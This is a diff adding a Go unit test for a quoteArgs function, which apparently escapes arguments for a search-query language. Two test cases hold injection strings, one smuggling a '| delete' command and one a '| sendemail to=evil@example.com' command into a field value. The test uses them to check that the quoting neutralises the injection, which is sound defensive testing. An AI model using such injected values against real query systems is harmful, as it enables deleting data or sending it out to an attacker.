@@ -0,0 +1,28 @@
+package main
+
+import "testing"
+
+func TestQuoteArgs(t *testing.T) {
+	tests := []struct {
+		args    []string
+		arg     bool
+		want    string
+		wantErr bool
+	}{
+		{[]string{`alice`}, false, `"alice"`, false},
+		{[]string{`bob" OR 1=1 | delete`, `C:\temp`}, false, `"bob\" OR 1=1 | delete" "C:\\temp"`, false},
+		{[]string{`user=x" | sendemail to=evil@example.com "`, `src.ip=10.0.0.1`}, true, `user="x\" | sendemail to=evil@example.com \"" src.ip="10.0.0.1"`, false},
+		{[]string{`user | delete=x`}, true, ``, true},
+		{[]string{`alice`}, true, ``, true},
+	}
+	for _, tt := range tests {
+		got, err := quoteArgs(tt.args, tt.arg)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("%q: expected error %v, got: %v", tt.args, tt.wantErr, err)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("%q: expected %s, got: %s", tt.args, tt.want, got)
+		}
+	}
+}